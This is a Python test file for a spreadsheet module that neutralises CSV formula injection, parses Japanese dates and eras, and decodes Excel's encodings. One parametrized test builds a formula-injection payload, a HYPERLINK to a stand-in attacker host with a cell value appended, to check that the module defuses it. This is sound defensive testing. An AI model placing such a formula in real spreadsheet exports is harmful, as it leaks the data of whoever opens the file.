"""Spreadsheets as Excel and LibreOffice write and read them: formulas neutralised both ways exactly,
Japanese dates, the encodings Excel saves in."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.errors import Invalid
from shared.spreadsheets import (
    DATE_FORMATS_ACCEPTED,
    decode_spreadsheet,
    excel_csv,
    neutralise_cell,
    spreadsheet_date,
    unneutralise_cell,
)

# What a spreadsheet may take for the start of a formula: OWASP's list, the full-width and small forms a
# Japanese IME types, and leading spaces, breaks and control characters some spreadsheets skip.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", " ", "\u3000", "\x00", "＝", "＋", "－", "＠", "﹦", "﹢",
                  "﹣", "﹫", "\u2212"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start):
    cell = f"{start}HYPERLINK(\"https://evil.example/?\"&A1)"
    assert neutralise_cell(cell) == "'" + cell
    assert unneutralise_cell(neutralise_cell(cell)) == cell


@given(st.text())
def test_neutralising_then_reading_back_gives_the_exact_text(text):
    safe = neutralise_cell(text)
    assert unneutralise_cell(safe) == text
    assert safe == "" or safe[0] not in "=+-@\t\r\n ＝＋－＠"


@given(st.text())
def test_a_neutralised_cell_survives_the_csv_file(text):
    body = excel_csv(["cell"], [[text]])
    read = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline="")))
    assert unneutralise_cell(read[1][0]) == text


def test_real_apostrophes_are_kept():
    assert unneutralise_cell("'90s club") == "'90s club"  # typed by a person: not a prefix of ours
    assert neutralise_cell("'90s club") == "''90s club"    # ours is added, and taken off again
    assert unneutralise_cell("''90s club") == "'90s club"
    assert unneutralise_cell("'+81-6-6000-0000") == "+81-6-6000-0000"
    assert neutralise_cell("田中") == "田中" and neutralise_cell(None) == "" and neutralise_cell(3) == "3"


@pytest.mark.parametrize("typed", ["2025/4/1", "2025/04/01", "2025-04-01", "2025-4-1", "2025.4.1", "2025年4月1日",
                                   "2025年04月01日", "２０２５／４／１", "R7.4.1", "r7/4/1", "令和7年4月1日",
                                   "令和７年４月１日", " 2025/4/1 "])
def test_dates_as_japanese_excel_saves_them(typed):
    assert spreadsheet_date(typed) == date(2025, 4, 1)


def test_japanese_eras():
    assert spreadsheet_date("令和元年5月1日") == date(2019, 5, 1)
    assert spreadsheet_date("H31.4.30") == date(2019, 4, 30)
    assert spreadsheet_date("平成23年6月18日") == date(2011, 6, 18)


@pytest.mark.parametrize("typed", ["2025/13/1", "2025/2/30", "4/1/2025", "1 April 2025", "R7", "", "S64.1.7"])
def test_a_date_that_is_not_one_says_which_formats_are(typed):
    with pytest.raises(ValueError) as refused:
        spreadsheet_date(typed)
    assert DATE_FORMATS_ACCEPTED in str(refused.value) and "2025/4/1" in str(refused.value)


def test_the_encodings_excel_saves_in():
    text = "member_kind,name_ja\r\ngroup,カラバオの会\r\n"
    assert decode_spreadsheet(text.encode("utf-8")) == text
    assert decode_spreadsheet(text.encode("utf-8-sig")) == text
    assert decode_spreadsheet(text.encode("cp932")) == text
    unicode_text = text.replace(",", "\t")  # Excel's "Unicode text": UTF-16 LE with BOM, tab-separated
    assert decode_spreadsheet(b"\xff\xfe" + unicode_text.encode("utf-16-le")) == unicode_text
    assert decode_spreadsheet(b"\xfe\xff" + unicode_text.encode("utf-16-be")) == unicode_text


@pytest.mark.parametrize("data", [bytes(range(256)) * 4, "member_kind\r\n".encode("utf-16-le"),
                                  b"\xff\xfe\x00\xd8"])
def test_a_file_that_is_not_such_text_is_refused_saying_what_is_wanted(data):
    with pytest.raises(Invalid) as refused:
        decode_spreadsheet(data)
    assert "UTF-8" in refused.value.detail and "Shift_JIS" in refused.value.detail
